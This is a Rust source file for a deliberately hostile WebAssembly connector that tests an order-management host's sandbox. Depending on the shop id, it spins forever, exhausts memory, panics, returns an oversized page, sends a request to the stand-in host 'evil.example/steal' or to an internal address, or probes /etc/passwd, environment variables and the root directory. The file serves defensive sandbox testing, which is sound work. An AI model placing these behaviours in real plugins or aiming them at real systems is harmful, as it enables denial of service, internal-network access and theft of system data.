//! A hostile connector: each call misbehaves in the way its shop id (or, for `map-order`, the
//! order number) names, so one component proves every limit of the host's sandbox.
//!
//! | name | does |
//! | --- | --- |
//! | `ok` | behaves: an empty page |
//! | `loop` | spins forever |
//! | `bomb` | allocates until memory runs out |
//! | `trap` | panics (a trap) |
//! | `evil-name` | sends a request to a host the shop does not allow |
//! | `evil-ip` | sends a request to the shop's own base URL, an internal address |
//! | `huge` | returns a page far larger than allowed |
//! | `files` | tries to read a file and the environment, and reports what it got |
//! | `sleep` | sends a request that never gets an answer (a host call that blocks) |

#![allow(missing_docs)]

pub mod bindings {
    wit_bindgen::generate!({
        path: "../../../wit/0.1.0",
        world: "mall-connector",
        generate_all,
    });
}

use bindings::exports::mallhost::connector::connector::Guest;
use bindings::mallhost::connector::host::{self, Method, Request};
use bindings::mallhost::connector::types::{
    CallContext, ConnectorError, FetchPage, FetchRequest, Order, OrderSource, PluginInfo,
    PushResult, RawOrder, RemoteError, Shipment, TakeResult,
};

pub struct Hostile;

fn remote(code: &str, message: String) -> ConnectorError {
    ConnectorError::Remote(RemoteError {
        code: code.into(),
        message,
    })
}

fn send(url: String) -> Result<FetchPage, ConnectorError> {
    let req = Request {
        method: Method::Get,
        url,
        headers: vec![],
        body: vec![],
        credential: None,
    };
    match host::send(&req) {
        Ok(r) => Err(remote(
            "SENT",
            format!("the host sent it: status {}", r.status),
        )),
        Err(e) => Err(remote("REFUSED", format!("{e:?}"))),
    }
}

fn misbehave(what: &str, base_url: &str) -> Result<FetchPage, ConnectorError> {
    match what {
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "bomb" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![7u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "trap" => panic!("hostile plugin: trap on purpose"),
        "evil-name" => send("https://evil.example/steal".into()),
        "evil-ip" | "sleep" => send(format!("{base_url}/anything")),
        "huge" => Ok(FetchPage {
            orders: (0..20_000)
                .map(|i| RawOrder {
                    mall_order_number: format!("H{i}"),
                    source: OrderSource::Api,
                    body: "x".repeat(100),
                })
                .collect(),
            skipped: vec![],
            next_cursor: None,
        }),
        "files" => {
            let file = std::fs::read_to_string("/etc/passwd")
                .map(|s| s.len())
                .map_err(|e| e.to_string());
            let env = std::env::var("HOME").ok();
            let vars = std::env::vars().count();
            let dir = std::fs::read_dir("/")
                .map(|d| d.count())
                .map_err(|e| e.to_string());
            Err(remote(
                "PROBE",
                format!("file={file:?} env={env:?} vars={vars} dir={dir:?}"),
            ))
        }
        _ => Ok(FetchPage {
            orders: vec![],
            skipped: vec![],
            next_cursor: None,
        }),
    }
}

impl Guest for Hostile {
    fn info() -> PluginInfo {
        PluginInfo {
            mall_id: "hostile".into(),
            mall_name: "hostile".into(),
            plugin_version: env!("CARGO_PKG_VERSION").into(),
            contract_version: "0.1.0".into(),
            csv_order_key: None,
        }
    }

    fn fetch_orders(ctx: CallContext, _req: FetchRequest) -> Result<FetchPage, ConnectorError> {
        misbehave(&ctx.shop_id, &ctx.base_url)
    }

    fn map_order(raw: RawOrder) -> Result<Order, ConnectorError> {
        misbehave(&raw.mall_order_number, "")?;
        Err(ConnectorError::Unsupported(
            "the hostile plugin maps nothing".into(),
        ))
    }

    fn map_orders(raws: Vec<RawOrder>) -> Vec<Result<Order, ConnectorError>> {
        raws.into_iter().map(Self::map_order).collect()
    }

    fn take_orders(_ctx: CallContext, _numbers: Vec<String>) -> Vec<TakeResult> {
        vec![]
    }

    fn push_shipments(_ctx: CallContext, _shipments: Vec<Shipment>) -> Vec<PushResult> {
        vec![]
    }
}

#[cfg(target_arch = "wasm32")]
bindings::export!(Hostile with_types_in bindings);
